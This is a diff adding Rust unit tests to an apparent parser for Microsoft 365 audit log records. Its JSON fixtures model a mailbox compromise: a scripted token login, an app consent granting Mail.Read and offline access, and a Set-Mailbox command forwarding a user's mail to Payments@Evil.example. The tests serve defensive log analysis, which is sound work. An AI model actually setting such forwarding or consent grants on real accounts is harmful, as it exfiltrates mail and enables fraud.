@@ -97,3 +97,60 @@ fn read(f: Fields, dialect: Dialect, origin: &Origin) -> Result<MailboxActivity,
         raw: Some(origin.raw.to_string()),
     })
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::normalise::{Outcome, normalise};
+    use crate::schema::Record;
+
+    fn read(json: &str) -> crate::schema::MailboxActivity {
+        let object = serde_json::from_str(json).unwrap();
+        match normalise(object, "test", json) {
+            Outcome::Records(mut r) => match r.remove(0) {
+                Record::MailboxActivity(m) => m,
+                other => panic!("{other:?}"),
+            },
+            other => panic!("{other:?}"),
+        }
+    }
+
+    #[test]
+    fn entra_workload_records_in_the_unified_audit_log() {
+        // UserLoggedIn (RecordType 15, AzureActiveDirectoryStsLogon): the agent is in
+        // ExtendedProperties, the IP has no port.
+        let login = read(
+            r#"{"CreationTime":"2024-09-26T18:03:36","Id":"8f0c0d3e-1a2b-4c5d-9e8f-000000000001","Operation":"UserLoggedIn",
+                "OrganizationId":"o","RecordType":15,"ResultStatus":"Success","UserKey":"k","UserType":0,"Version":1,
+                "Workload":"AzureActiveDirectory","ClientIP":"89.187.164.135","ObjectId":"00000003-0000-0000-c000-000000000000",
+                "UserId":"Jac@Contoso.example","AzureActiveDirectoryEventType":1,
+                "ExtendedProperties":[{"Name":"ResultStatusDetail","Value":"Success"},
+                                      {"Name":"UserAgent","Value":"node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"},
+                                      {"Name":"RequestType","Value":"OAuth2:Token"}]}"#,
+        );
+        assert_eq!(login.operation.as_deref(), Some("UserLoggedIn"));
+        assert_eq!(login.user_principal_name.as_deref(), Some("jac@contoso.example"));
+        assert_eq!(login.client_ip.as_deref(), Some("89.187.164.135"));
+        assert_eq!(login.user_agent.as_deref(), Some("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)"));
+        assert_eq!(login.time.unwrap().to_rfc3339(), "2024-09-26T18:03:36+00:00");
+        assert_eq!(login.rule_name, None);
+
+        // Consent to application, and mailbox forwarding set by Set-Mailbox.
+        let consent = read(
+            r#"{"CreationTime":"2024-10-03T16:30:00","Id":"c1","Operation":"Consent to application.","RecordType":8,
+                "Workload":"AzureActiveDirectory","UserId":"jac@contoso.example","ObjectId":"Mail Sync Pro",
+                "ModifiedProperties":[{"Name":"ConsentAction.Permissions","NewValue":"Scope: Mail.Read offline_access","OldValue":""}]}"#,
+        );
+        assert_eq!(consent.operation.as_deref(), Some("Consent to application."));
+        assert_eq!(consent.object_id.as_deref(), Some("Mail Sync Pro"));
+        let forwarding = read(
+            r#"{"CreationTime":"2024-10-03T16:31:00","Id":"f1","Operation":"Set-Mailbox","RecordType":1,"Workload":"Exchange",
+                "UserId":"jac@contoso.example","ClientIP":"[2001:db8::7]:4432",
+                "Parameters":[{"Name":"Identity","Value":"jac@contoso.example"},
+                              {"Name":"ForwardingSmtpAddress","Value":"smtp:Payments@Evil.example"},
+                              {"Name":"DeliverToMailboxAndForward","Value":"True"}]}"#,
+        );
+        assert_eq!(forwarding.forward_to.as_deref(), Some("payments@evil.example"));
+        assert_eq!(forwarding.client_ip.as_deref(), Some("2001:db8::7"));
+        assert!(forwarding.rule_actions.is_empty());
+    }
+}
